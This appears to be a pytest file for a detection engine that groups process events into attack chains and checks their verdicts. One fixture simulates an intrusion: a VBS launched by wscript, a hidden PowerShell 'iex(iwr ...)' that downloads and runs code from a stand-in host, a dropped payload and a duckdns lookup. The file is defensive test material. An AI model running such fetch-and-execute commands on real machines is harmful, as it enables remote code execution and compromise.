"""What the tradecraft rules add to chains, and what they must not."""

from __future__ import annotations

import pytest
from attacks import ROAMING, TEMP, desktop, engine, tagged
from detection_cases import Case, cases
from hosts import SYSTEM32, Host

from correlators import CORRELATORS
from lineage.correlate.run import correlate
from lineage.detect.catalog import load_builtin
from lineage.detect.detection import PACKS

PATHS = {rule.detection.path for rule in load_builtin("tradecraft")}
HITS = [case for case in cases() if case.file in PATHS and case.hit]
PYTHON = "C:\\Users\\zoe\\Downloads\\python-3.12\\python.exe"


def verdicts(host: Host) -> list[str]:
    """The verdicts of a host's chains, by all rules that ship."""
    return [chain.finding.verdict for chain in correlate(tagged(host, packs=PACKS), CORRELATORS)]


@pytest.mark.parametrize("case", HITS, ids=lambda case: case.id)
def test_a_hit_alone_is_no_more_than_a_weak_chain(case: Case) -> None:
    host = Host(events=[case.event])
    graph = tagged(host, packs=("tradecraft",))
    assert len(graph.hits) <= 3
    found = {chain.finding.verdict for chain in correlate(graph, CORRELATORS)}
    assert found <= {"suspicious"}


def test_ways_in_that_the_story_lacks_make_a_chain_with_it() -> None:
    host = Host()
    shell = desktop(host)
    script = host.run(
        SYSTEM32 + "wscript.exe", f'wscript.exe "{TEMP}7zO5A0776F0\\order.vbs"', parent=shell
    )
    powershell = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    fetch = host.run(
        powershell, 'powershell -w hidden -c "iex(iwr http://d.example/a)"', parent=script
    )
    host.write(fetch, ROAMING + "upd.exe")
    payload = host.run(ROAMING + "upd.exe", parent=fetch)
    host.ask(payload, "pc44.duckdns.org")
    assert verdicts(host) == ["probable"]


def test_each_honest_counterpart_is_at_most_suspicious() -> None:
    host = Host()
    shell = desktop(host)
    host.run(PYTHON, "python.exe app.py", parent=shell)
    console = host.run(SYSTEM32 + "cmd.exe", "cmd.exe", parent=shell)
    host.run(
        SYSTEM32 + "curl.exe", "curl -o C:\\ProgramData\\dist\\agent.msi https://dist.corp/agent.msi",
        parent=console,
    )  # fmt: skip
    host.run(
        SYSTEM32 + "msiexec.exe", "msiexec /i C:\\ProgramData\\dist\\agent.msi /qn", parent=console
    )
    host.run("C:\\Program Files\\Tools\\report.exe", parent=console)
    assert set(verdicts(host)) <= {"suspicious"}


def test_the_pack_changes_no_hit_of_the_33() -> None:
    both = engine(*PACKS)
    for case in cases():
        alone = engine().match(case.event, case.context)
        beside = both.match(case.event, case.context)
        assert [match for match in beside if match.layer != "tradecraft"] == list(alone)
